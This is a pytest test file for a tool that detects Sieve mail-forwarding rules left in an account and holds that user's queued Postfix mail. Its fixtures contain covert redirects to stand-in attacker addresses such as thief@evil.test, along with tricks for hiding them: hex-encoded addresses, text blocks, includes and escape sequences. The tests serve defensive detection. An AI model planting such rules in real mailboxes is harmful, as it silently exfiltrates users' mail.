"""What a user without a login leaves behind: the redirects and the queued mail that are found."""

from __future__ import annotations

import os
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from mailops.remote.accounts import sessions
from mailops.remote.system import shell

SCRIPT = r"""
require ["copy", "enotify"]; # redirect "comment@elsewhere.test";
/* redirect "another@elsewhere.test"; */
if header :contains "subject" "redirect \"quoted@elsewhere.test\"" {
  redirect :copy "thief@evil.test";
  REDIRECT "second@evil.test"; fileinto "redirect";
}
notify :importance "1" :message "to you@elsewhere.test" "mailto:phone@evil.test";
vacation :addresses ["me@example.test"] "away";
"""


def test_redirects_in_a_script_are_found_and_comments_are_not(tmp_path: Path) -> None:
    (tmp_path / "sieve").mkdir()
    (tmp_path / "sieve" / "rules.sieve").write_text(SCRIPT)
    (tmp_path / "sieve" / "old.sieve").write_text('redirect "old@evil.test";')
    (tmp_path / ".dovecot.sieve").symlink_to("sieve/rules.sieve")
    old, *rules, vacation = sessions.redirects(str(tmp_path))
    assert old.endswith("old.sieve (not in use) sends mail on to old@evil.test")
    assert vacation.endswith("rules.sieve (in use) answers mail for them (vacation)")
    assert all(f"{tmp_path}/sieve/rules.sieve (in use)" in line for line in rules)
    assert [line.split()[-1] for line in rules] == ["thief@evil.test", "second@evil.test", "mailto:phone@evil.test"]


@pytest.mark.parametrize(
    ("include", "used"),
    [
        ('include :personal "hidden";', True),
        ('include "hidden";', True),
        ('if true { INCLUDE :once :optional "other"; }', True),
        ('include ["unheard of", "other"];', True),
        ("include :personal text:\nhidden\n.\n;", True),
        ('include :global "hidden";', False),
        ('# include "hidden";', False),
        ('include "unheard of"; fileinto "hidden";', False),
    ],
)
def test_what_the_active_script_includes_is_in_use(tmp_path: Path, include: str, used: bool) -> None:
    (tmp_path / "sieve").mkdir()
    (tmp_path / "sieve/rules.sieve").write_text(f'require ["include"];\n{include}')
    (tmp_path / "sieve/other.sieve").write_text('include "hidden"; include "rules";')  # round and round
    (tmp_path / "sieve/hidden.sieve").write_text('redirect "thief@evil.test";')
    (tmp_path / ".dovecot.sieve").symlink_to("sieve/rules.sieve")
    (line,) = sessions.redirects(str(tmp_path))
    assert f"hidden.sieve ({'in use' if used else 'not in use'}) sends" in line


def test_a_script_moves_nothing_on_the_screen(tmp_path: Path) -> None:
    (tmp_path / ".dovecot.sieve").write_text('redirect "\x1b[2Jthief@evil.test";')
    (line,) = sessions.redirects(str(tmp_path))
    assert line.isprintable()


@pytest.mark.parametrize(
    "script",
    [
        "redirect text:\nthief@evil.test\n.\n;",
        "redirect :copy text: # where to\r\nthief@evil.test\r\n.\r\n;",
        'vacation text:\nHe said: "\n.\n;\nredirect "thief@evil.test";',
        'vacation text:\n/* so to say\n.\n;\nredirect "thief@evil.test";',
    ],
)
def test_a_text_of_several_lines_hides_no_redirect(tmp_path: Path, script: str) -> None:
    (tmp_path / ".dovecot.sieve").write_text(script, newline="")
    lines = [line for line in sessions.redirects(str(tmp_path)) if "vacation" not in line]
    assert [line.split()[-1] for line in lines] == ["thief@evil.test"]


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ('redirect "thief${hex:40}evil.${unicode:74 65}st";', "thief@evil.test"),
        ('redirect "thief${HEX: 40 65}vil.test";', "thief@evil.test"),
        ('redirect "${unicode:ffffffff}";', "?"),
        ('set "a" "thief@evil.test"; redirect "${a}";', "${a}, which it works out for each message"),
        ('redirect :copy "thief@${1}";', "thief@${1}, which it works out for each message"),
        ('notify :message "${subject}" "mailto:${a}";', "mailto:${a}, which it works out for each message"),
        ('notify :message "${subject}" "${a}";', "${a}, which it works out for each message"),
    ],
)
def test_an_address_that_a_script_puts_together_is_said_to_be_that(tmp_path: Path, script: str, said: str) -> None:
    (tmp_path / ".dovecot.sieve").write_text(script)
    (line,) = sessions.redirects(str(tmp_path))
    assert line.endswith(f"sends mail on to {said}")


def test_an_answer_that_is_not_in_use_is_not_named(tmp_path: Path) -> None:
    (tmp_path / "sieve").mkdir()
    (tmp_path / "sieve" / "old.sieve").write_text('vacation "away";')
    (tmp_path / ".dovecot.sieve").write_text('notify :message "${subject}" "xmpp:me@example.test";')
    assert sessions.redirects(str(tmp_path)) == []


@pytest.mark.parametrize("piece", ["/* ", '"\\', 'text:\n"', 'x "\\"', "#/*\n/"])
def test_nobody_is_kept_waiting_by_a_script(tmp_path: Path, piece: str) -> None:
    (tmp_path / ".dovecot.sieve").write_text(piece * (100_000 // len(piece)))
    began = time.process_time()
    assert sessions.redirects(str(tmp_path)) == []
    assert time.process_time() - began < 2


def test_links_and_pipes_in_place_of_a_script_are_not_read(tmp_path: Path) -> None:
    (tmp_path / "sieve").mkdir()
    os.mkfifo(tmp_path / "sieve/pipe.sieve")
    (tmp_path / "secret").write_text('redirect "secret@example.test";')
    (tmp_path / "sieve/link.sieve").symlink_to(tmp_path / "secret")
    link, pipe = sessions.redirects(str(tmp_path))
    assert "link.sieve cannot be read" in link
    assert "pipe.sieve cannot be read" in pipe


def test_a_script_that_cannot_be_read_is_said(tmp_path: Path) -> None:
    (tmp_path / "sieve").mkdir()
    (tmp_path / "sieve" / "gone.sieve").symlink_to("nowhere")
    (line,) = sessions.redirects(str(tmp_path))
    assert "gone.sieve cannot be read" in line


def test_no_scripts_no_lines(tmp_path: Path) -> None:
    assert sessions.redirects(str(tmp_path / "nobody")) == []


QUEUE = """\
{"queue_name": "deferred", "queue_id": "AAA", "sender": "ann@example.test"}
{"queue_name": "active", "queue_id": "BBB", "sender": "alias@example.test"}
{"queue_name": "deferred", "queue_id": "CCC", "sender": "other@example.test"}
{"queue_name": "hold", "queue_id": "DDD", "sender": "ann@example.test"}
"""
ENVELOPES = """\
*** ENVELOPE RECORDS deferred/A/AAA ***
sender: ann@example.test
recipient: x@elsewhere.test
*** HEADER EXTRACTED deferred/A/AAA ***
*** MESSAGE FILE END deferred/A/AAA ***
*** ENVELOPE RECORDS active/BBB ***
named_attribute: sasl_username=Ann@Example.test
sender: alias@example.test
*** ENVELOPE RECORDS deferred/C/CCC ***
named_attribute: sasl_username=other@example.test
sender: other@example.test
recipient: ann@example.test
*** ENVELOPE RECORDS deferred/E/EEE ***
sender: ann+detail@example.test
*** ENVELOPE RECORDS deferred/F/FFF ***
sender:\x20
named_attribute: client_address=127.0.0.1
named_attribute: helo_name=ann=example.test
*** MESSAGE CONTENTS deferred/F/FFF ***
*** ENVELOPE RECORDS deferred/G/GGG ***
sender: sales@example.test
named_attribute: client_address=127.0.0.1
named_attribute: helo_name=ann=example.test
*** ENVELOPE RECORDS deferred/H/HHH ***
sender:\x20
named_attribute: client_address=192.0.2.1
named_attribute: helo_name=ann=example.test
*** ENVELOPE RECORDS deferred/I/III ***
sender:\x20
named_attribute: client_address=127.0.0.1
named_attribute: helo_name=other=example.test
"""


def test_queued_mail_by_login_sender_or_sieve_script_is_held_and_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[tuple[tuple[str, ...], str]] = []

    def run(*command: str, stdin: str = "", **_: Any) -> SimpleNamespace:
        seen.append((command, stdin))
        return SimpleNamespace(stdout={"postqueue": QUEUE, "postcat": ENVELOPES}.get(command[0], ""))

    monkeypatch.setattr(shell, "run", run)
    (line,) = sessions._hold_mail("ann@example.test")
    assert "5 messages" in line
    assert "postsuper -H AAA BBB EEE FFF GGG" in line
    assert seen[-2][0] == ("postcat", "-e", "-q", "AAA", "BBB", "CCC")
    assert seen[-1] == (("postsuper", "-h", "-"), "AAA\nBBB\nEEE\nFFF\nGGG\n")


def test_a_message_that_is_still_coming_says_who_sends_it(tmp_path: Path) -> None:
    """As cleanup(8) writes it: no size yet, then attributes, the sender, what is to come."""

    def record(kind: bytes, text: bytes) -> bytes:
        length = bytes([len(text)]) if len(text) < 128 else bytes([len(text) & 127 | 128, len(text) >> 7])
        return kind + length + text

    attributes = [
        record(b"A", text) for text in (b"log_ident=1", b"x=" + b"y" * 200, b"sasl_username=ann@example.test")
    ]
    path = tmp_path / "E14A25DE6D1"
    path.write_bytes(
        record(b"C", b" " * 95) + b"".join(attributes) + record(b"S", b"ann+x@example.test") + b"M\0N\3Hi."
    )
    assert sessions._senders(sessions._begun(str(path))) == ["ann@example.test", "ann+x@example.test"]
    path.write_bytes(path.read_bytes()[:110])
    assert sessions._senders(sessions._begun(str(path))) == []
